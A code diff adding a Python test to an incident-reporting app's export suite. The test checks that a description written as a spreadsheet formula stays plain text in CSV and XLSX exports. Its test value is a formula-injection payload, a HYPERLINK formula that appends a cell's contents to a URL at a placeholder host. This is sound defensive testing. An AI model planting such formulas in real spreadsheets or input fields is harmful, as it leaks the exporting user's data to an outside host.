@@ -142,3 +142,23 @@ def test_a_selection_larger_than_an_excel_sheet_is_refused_with_a_way_out(
     login, member_a, incidents
 ):
     assert_too_many_for_excel(login(member_a), "incidents", "incident.export", "severity=1", 2)
+
+
+FORMULA = '=HYPERLINK("https://example.invalid/?"&A2,"Öppna")'
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_csv_and_excel(login, member_a, reporter_a):
+    # Anyone who may report writes the description; the spreadsheet of whoever exports must
+    # not run it (CSV/formula injection).
+    make_incident(reporter_a, occurred_at=WHEN, description=FORMULA)
+    client = login(member_a)
+    _response, body = download(client, "csv")
+    lines = list(csv.reader(io.StringIO(body.decode().lstrip("\ufeff")), delimiter=";"))
+    row = dict(zip(lines[0], lines[1], strict=True))
+    assert row["Beskrivning"] == "'" + FORMULA
+    assert row["Latitud"] == "59,435000"  # numbers are not text, and keep their form
+    _response, body = download(client, "xlsx")
+    sheet = load_workbook(io.BytesIO(body))["Händelser"]
+    cell = next(c for c in sheet[2] if c.value and str(c.value).startswith("="))
+    assert cell.data_type == "s"
+    assert cell.value == FORMULA
